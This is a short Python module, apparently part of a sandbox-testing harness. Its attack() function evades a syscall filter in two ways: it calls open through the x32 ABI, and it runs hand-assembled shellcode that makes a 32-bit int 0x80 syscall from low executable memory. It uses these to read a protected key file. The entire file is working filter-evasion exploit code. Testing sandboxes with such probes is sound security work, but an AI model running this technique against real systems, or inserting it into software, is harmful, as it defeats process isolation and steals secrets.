"""Enters the kernel by the calls of a 32-bit program, whose numbers mean something else to a filter."""

import ctypes
import mmap
import os

from world import GENTLE, KEY_FILE

LIBC = ctypes.CDLL(None, use_errno=True)
X32, OPEN_X32, OPEN_32 = 0x40000000, 2, 5
# push rbx; mov rbx, rsi; mov eax, edi; xor ecx, ecx; xor edx, edx; int 0x80; cdqe; pop rbx; ret
CODE = bytes.fromhex("53 48 89 f3 89 f8 31 c9 31 d2 cd 80 48 98 5b c3")


def attack():
    got = ["x32"] * (LIBC.syscall(X32 | OPEN_X32, KEY_FILE.encode(), 0) >= 0)
    if os.uname().machine != "x86_64":
        return [*got, "there is no such door"] if GENTLE else os.abort()
    low = mmap.mmap(-1, 1 << 16, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    address = ctypes.addressof(ctypes.c_char.from_buffer(low))
    low[:] = CODE.ljust(256, b"\x90") + KEY_FILE.encode().ljust((1 << 16) - 256, b"\0")
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_void_p)(address)
    fd = call(OPEN_32, address + 256)
    return [*got, os.read(fd, 100)] if fd >= 0 else got
